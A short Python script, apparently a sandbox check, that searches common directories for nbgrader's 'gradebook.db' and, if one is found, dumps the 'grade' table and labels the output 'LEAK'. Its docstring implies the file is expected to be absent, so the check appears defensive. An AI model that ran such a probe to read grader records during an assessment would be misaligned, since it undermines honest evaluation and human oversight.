"""Open the gradebook where nbgrader keeps it. It is nowhere."""

import os
import sqlite3
import sys

for folder in ("/", "/scratch", "/work", "/srv/nbgrader", "/home", os.getcwd(), os.path.dirname(sys.prefix)):
    path = os.path.join(folder, "gradebook.db")
    if os.path.exists(path):
        print("LEAK", sqlite3.connect(path).execute("select * from grade").fetchall())
